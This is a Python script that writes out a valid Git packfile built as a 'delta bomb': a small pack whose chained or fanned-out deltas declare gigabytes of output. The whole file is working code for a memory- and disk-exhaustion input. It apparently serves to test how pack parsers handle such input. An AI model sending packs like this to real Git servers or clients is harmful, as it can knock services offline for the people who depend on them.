#!/usr/bin/env python3
"""A valid pack that is a delta bomb, on stdout: a 64 KiB blob, then N offset
deltas each declaring RESULT bytes, made of one-byte "copy 64 KiB" ops, so
that a few kilobytes of pack declare gigabytes.

    delta_bomb.py one N RESULT     N deltas, each on the blob
    delta_bomb.py chain N RESULT   a chain: each delta on the one before
"""
import hashlib
import struct
import sys
import zlib

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7f
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)

def obj_header(t, size):
    b = (t << 4) | (size & 15)
    size >>= 4
    out = bytearray()
    while size:
        out.append(b | 0x80)
        b = size & 0x7f
        size >>= 7
    out.append(b)
    return bytes(out)

def ofs(d):
    out = bytearray([d & 0x7f])
    d >>= 7
    while d:
        d -= 1
        out.insert(0, 0x80 | (d & 0x7f))
        d >>= 7
    return bytes(out)

def copies(result):  # copy 64 KiB from offset 0 of the base, as often as needed
    return b"\x80" * (result // 65536)

kind, n = sys.argv[1], int(sys.argv[2])
body = bytearray()
base = b"a" * 65536
body += obj_header(3, len(base)) + zlib.compress(base)
offs = [12]
prev_size = len(base)
for i in range(n):
    off = 12 + len(body)
    result = int(sys.argv[3])
    delta = varint(prev_size) + varint(result) + copies(result)
    back = off - (offs[-1] if kind == "chain" else offs[0])
    body += obj_header(6, len(delta)) + ofs(back) + zlib.compress(delta)
    offs.append(off)
    if kind == "chain":
        prev_size = result
data = b"PACK" + struct.pack(">II", 2, n + 1) + bytes(body)
sys.stdout.buffer.write(data + hashlib.sha1(data).digest())
